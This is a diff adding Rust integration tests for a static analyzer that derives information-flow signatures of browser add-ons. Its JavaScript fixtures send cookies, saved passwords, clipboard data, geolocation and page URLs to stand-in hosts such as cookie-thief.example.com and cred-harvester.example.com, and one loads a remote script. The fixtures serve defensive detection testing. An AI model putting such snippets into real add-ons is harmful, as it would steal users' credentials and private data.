@@ -1,0 +1,277 @@
+//! Cross-crate integration tests for behaviors that span the whole
+//! pipeline: event-loop recency, configurable policies, API reporting,
+//! and the report surface (JSON, witnesses, timings).
+
+use addon_sig::{analyze_addon, analyze_addon_with_config, Error};
+use jsanalysis::{AnalysisConfig, SourceKind, StringDomain};
+use jssig::{FlowLattice, FlowType};
+
+fn t(n: u8) -> FlowType {
+    FlowType(n - 1)
+}
+
+#[test]
+fn handler_locals_stay_precise_across_event_loop_iterations() {
+    // The recency-abstraction regression test: locals of an event handler
+    // must remain strongly updatable even though the handler re-runs on
+    // every event-loop iteration.
+    let report = analyze_addon(
+        r#"
+function onLoad() {
+  var url = content.location.href;
+  var req = new XMLHttpRequest();
+  req.open("GET", "http://precise.example.com/r?u=" + encodeURIComponent(url));
+  req.send(null);
+}
+gBrowser.addEventListener("load", onLoad, true);
+"#,
+    )
+    .unwrap();
+    let entry = report
+        .signature
+        .flows
+        .iter()
+        .find(|e| e.source == SourceKind::Url)
+        .expect("url flow");
+    assert_eq!(entry.flow, t(1), "handler flow must stay datastrong");
+    assert!(entry
+        .sink
+        .domain
+        .known_text()
+        .unwrap()
+        .starts_with("http://precise.example.com"));
+}
+
+#[test]
+fn cookie_source_flows() {
+    let report = analyze_addon(
+        r#"
+var c = document.cookie;
+var req = XHRWrapper("http://cookie-thief.example.com/c");
+req.send(c);
+"#,
+    )
+    .unwrap();
+    assert!(report
+        .signature
+        .flows
+        .iter()
+        .any(|e| e.source == SourceKind::Cookie && e.flow == t(1)));
+}
+
+#[test]
+fn password_source_flows() {
+    let report = analyze_addon(
+        r#"
+var logins = loginManager.getAllLogins();
+var req = XHRWrapper("http://cred-harvester.example.com/up");
+req.send(logins);
+"#,
+    )
+    .unwrap();
+    assert!(
+        report
+            .signature
+            .flows
+            .iter()
+            .any(|e| e.source == SourceKind::Password),
+        "password exfiltration missed:\n{}",
+        report.signature
+    );
+}
+
+#[test]
+fn clipboard_source_flows() {
+    let report = analyze_addon(
+        r#"
+var data = clipboard.read();
+var req = XHRWrapper("http://paste.example.com/save");
+req.send(data);
+"#,
+    )
+    .unwrap();
+    assert!(report
+        .signature
+        .flows
+        .iter()
+        .any(|e| e.source == SourceKind::Clipboard));
+}
+
+#[test]
+fn geolocation_callback_flow() {
+    let report = analyze_addon(
+        r#"
+navigator.geolocation.getCurrentPosition(function (pos) {
+  var req = XHRWrapper("http://tracker.example.com/loc");
+  req.send(pos.coords.latitude + "," + pos.coords.longitude);
+});
+"#,
+    )
+    .unwrap();
+    assert!(
+        report
+            .signature
+            .flows
+            .iter()
+            .any(|e| e.source == SourceKind::Geoloc),
+        "geolocation flow missed:\n{}",
+        report.signature
+    );
+}
+
+#[test]
+fn source_config_filters_reported_kinds() {
+    let src = r#"
+var c = document.cookie;
+var req = XHRWrapper("http://sink.example.com/x");
+req.send(c);
+"#;
+    // Default: cookie flows are reported.
+    let full = analyze_addon(src).unwrap();
+    assert!(full
+        .signature
+        .flows
+        .iter()
+        .any(|e| e.source == SourceKind::Cookie));
+    // With cookies removed from the interesting set: silence.
+    let mut config = AnalysisConfig::default();
+    config.security.sources = [SourceKind::Url].into_iter().collect();
+    let filtered =
+        analyze_addon_with_config(src, &config, &FlowLattice::paper()).unwrap();
+    assert!(filtered.signature.flows.is_empty());
+    // The sink-only entry remains either way (Figure 3's bare `sink`).
+    assert!(!filtered.signature.sinks.is_empty());
+}
+
+#[test]
+fn constant_string_ablation_loses_domains() {
+    let src = r#"
+var u = content.location.href;
+var req = new XMLHttpRequest();
+req.open("GET", "http://keeps-prefix.example.com/q?u=" + u);
+req.send(null);
+"#;
+    let prefix = analyze_addon(src).unwrap();
+    let sink = prefix.signature.sinks.iter().next().unwrap();
+    assert!(sink.domain.known_text().unwrap().contains("keeps-prefix"));
+
+    let config = AnalysisConfig {
+        string_domain: StringDomain::ConstantOnly,
+        ..AnalysisConfig::default()
+    };
+    let constant =
+        analyze_addon_with_config(src, &config, &FlowLattice::paper()).unwrap();
+    let sink = constant.signature.sinks.iter().next().unwrap();
+    assert!(
+        sink.domain.known_text().unwrap_or("").is_empty(),
+        "constant-only domain should be unknown, got {}",
+        sink.domain
+    );
+}
+
+#[test]
+fn deprecated_apis_reported() {
+    let report = analyze_addon("var s = escape(\"a b\"); window.openDialog();").unwrap();
+    assert!(report.signature.apis.contains("escape"));
+    assert!(report.signature.apis.contains("window.openDialog"));
+}
+
+#[test]
+fn scriptloader_is_both_api_and_sink() {
+    let report = analyze_addon(
+        "Services.scriptloader.loadSubScript(\"https://cdn.example.com/inject.js\");",
+    )
+    .unwrap();
+    assert!(report
+        .signature
+        .apis
+        .contains("Services.scriptloader.loadSubScript"));
+    assert!(report
+        .signature
+        .sinks
+        .iter()
+        .any(|s| s.domain.known_text().unwrap_or("").contains("cdn.example.com")));
+}
+
+#[test]
+fn json_report_shape() {
+    let report = analyze_addon(
+        "var u = content.location.href; var r = XHRWrapper(\"http://j.example/x\"); r.send(u);",
+    )
+    .unwrap();
+    let json: serde_json::Value =
+        serde_json::from_str(&report.signature.to_json()).expect("valid json");
+    assert!(json["flows"].as_array().is_some_and(|a| !a.is_empty()));
+    assert_eq!(json["flows"][0]["flow"], "type1");
+    assert!(json["sinks"].as_array().is_some());
+    let lines = json["flows"][0]["witness_lines"].as_array().unwrap();
+    assert!(!lines.is_empty(), "witness lines present");
+}
+
+#[test]
+fn timings_are_populated() {
+    let report = analyze_addon("var x = 1;").unwrap();
+    // Phases are measured (they may be sub-microsecond but not absurd).
+    assert!(report.p1.as_nanos() > 0);
+    assert!(report.p2.as_nanos() > 0);
+    assert!(report.p3.as_nanos() > 0);
+}
+
+#[test]
+fn step_limit_surfaces_as_error() {
+    let config = AnalysisConfig {
+        max_steps: 1,
+        ..AnalysisConfig::default()
+    };
+    let r = analyze_addon_with_config(
+        "var a = 1; var b = a;",
+        &config,
+        &FlowLattice::paper(),
+    );
+    assert!(matches!(r, Err(Error::StepLimit)));
+}
+
+#[test]
+fn multiple_sinks_distinguished_by_domain() {
+    let report = analyze_addon(
+        r#"
+var u = content.location.href;
+var first = XHRWrapper("http://one.example.com/a");
+first.send(u);
+var second = XHRWrapper("http://two.example.com/b");
+second.send("constant");
+"#,
+    )
+    .unwrap();
+    // The URL flows only to the first sink.
+    let url_domains: Vec<&str> = report
+        .signature
+        .flows
+        .iter()
+        .filter(|e| e.source == SourceKind::Url)
+        .filter_map(|e| e.sink.domain.known_text())
+        .collect();
+    assert!(url_domains.iter().all(|d| d.contains("one.example.com")));
+    // Both sinks appear as sink-only entries.
+    assert_eq!(report.signature.sinks.len(), 2);
+}
+
+#[test]
+fn whole_corpus_analyzes_within_budget() {
+    for addon in corpus::addons() {
+        let report = analyze_addon(addon.source)
+            .unwrap_or_else(|e| panic!("{}: {e}", addon.name));
+        assert!(
+            report.analysis.steps < 500_000,
+            "{} took {} steps",
+            addon.name,
+            report.analysis.steps
+        );
+        // Every corpus addon communicates over the network.
+        assert!(
+            !report.signature.sinks.is_empty(),
+            "{} produced no sinks",
+            addon.name
+        );
+    }
+}
